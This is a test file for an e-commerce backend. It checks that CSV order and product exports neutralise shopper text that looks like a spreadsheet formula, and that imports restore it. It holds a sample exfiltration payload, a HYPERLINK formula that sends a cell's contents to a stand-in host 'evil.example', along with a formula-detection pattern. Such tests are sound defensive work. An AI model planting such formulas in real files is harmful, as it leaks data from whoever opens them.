import { parse } from 'csv-parse/sync';
import { generateEntityId } from '../../../src/common/database/ids';
import { createBareOrders } from '../../factories/bare-order.factory';
import { createProduct } from '../../factories/product.factory';
import { createRegion } from '../../factories/region.factory';
import { createTestApp, TestApp } from '../../helpers/app';
import { adminAgent } from '../../helpers/auth';
import { downloadFile, FAST_QUEUE_ENV, runJob, uploadCsv } from '../../helpers/batch-jobs';

type Agent = Awaited<ReturnType<typeof adminAgent>>;

const FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")';
/** What a spreadsheet would run: a cell whose text starts like a formula. */
const RUNS_AS_FORMULA = /^[=+\-@\t\r]/;

describe('CSV exports: shopper text never runs as a spreadsheet formula', () => {
  let t: TestApp;
  let admin: Agent;
  let regionId: string;

  beforeAll(async () => {
    t = await createTestApp(FAST_QUEUE_ENV);
    admin = await adminAgent(t);
    regionId = (await createRegion(t.dataSource.manager, { name: 'Europe', currency_code: 'eur' })).id;
  });
  afterAll(() => t.close());

  it('order export: a customer named like a formula, an address with +, - and @, and a bare CR come out neutralised and quoted', async () => {
    const m = t.dataSource.manager;
    const [orderId] = await createBareOrders(m, regionId, 1);
    await m.query(`UPDATE customer SET first_name = $1, last_name = '+1+1' WHERE id = (SELECT customer_id FROM "order" WHERE id = $2)`, [FORMULA, orderId]);
    const address = generateEntityId('addr');
    await m.query(`INSERT INTO address (id, address_1, address_2, city, country_code, postal_code) VALUES ($1, '-2+3', $2, '@SUM(1)', 'de', '10115')`, [
      address,
      'Floor 2\rleft',
    ]);
    await m.query(`UPDATE "order" SET shipping_address_id = $2, discount_total = 100 WHERE id = $1`, [orderId, address]);

    const job = await runJob(admin, { type: 'order-export', context: { filterable_fields: { id: [orderId] } } });
    expect(job.status).toBe('completed');
    const text = await downloadFile(admin, t.http, job.result.file_key);
    const [header, row, ...rest] = parse(text, { delimiter: ';' }) as string[][];
    expect(rest).toEqual([]); // the bare CR did not end the line
    const cell = (name: string) => row[header.indexOf(name)];

    expect(cell('Customer First name')).toBe(`'${FORMULA}`);
    expect(cell('Customer Last name')).toBe("'+1+1");
    expect(cell('Shipping Address 1')).toBe("'-2+3");
    expect(cell('Shipping Address 2')).toBe('Floor 2\rleft');
    expect(cell('Shipping City')).toBe("'@SUM(1)");
    expect(cell('Discount Total')).toBe('100');
    expect(row.filter((c) => RUNS_AS_FORMULA.test(c))).toEqual([]);
    // The raw file: the cell with a quote inside is quoted, its quotes doubled.
    expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click me"")"`);
  });

  it('product export -> import: a formula-like title is neutralised in the file and imported back exactly', async () => {
    const product = await createProduct(t.dataSource.manager, {
      title: FORMULA,
      subtitle: "'=starts with an apostrophe",
      description: '-10% off',
      variants: [{ title: '+size', sku: '@sku-1', prices: [{ currency_code: 'eur', amount: 1950 }] }],
    });
    const exported = await runJob(admin, { type: 'product-export', context: { filterable_fields: { id: [product.id] } } });
    const text = await downloadFile(admin, t.http, exported.result.file_key);
    const [header, row] = parse(text, { delimiter: ';' }) as string[][];
    const cell = (name: string) => row[header.indexOf(name)];
    expect(cell('Product Title')).toBe(`'${FORMULA}`);
    expect(cell('Product Description')).toBe("'-10% off");
    expect(cell('Variant SKU')).toBe("'@sku-1");
    expect(row.filter((c) => RUNS_AS_FORMULA.test(c))).toEqual([]);

    const store2 = await createTestApp(FAST_QUEUE_ENV);
    try {
      const admin2 = await adminAgent(store2);
      await createRegion(store2.dataSource.manager, { name: 'Europe', currency_code: 'eur' });
      const imported = await runJob(admin2, { type: 'product-import', context: { fileKey: await uploadCsv(admin2, text) } });
      expect(imported.status).toBe('completed');
      const [copy] = await store2.dataSource.query(
        `SELECT p.title, p.subtitle, p.description, v.title AS variant_title, v.sku, ma.amount
           FROM product p JOIN product_variant v ON v.product_id = p.id JOIN money_amount ma ON ma.variant_id = v.id`,
      );
      expect(copy).toEqual({
        title: FORMULA,
        subtitle: "'=starts with an apostrophe",
        description: '-10% off',
        variant_title: '+size',
        sku: '@sku-1',
        amount: 1950,
      });
    } finally {
      await store2.close();
    }
  }, 60_000);
});
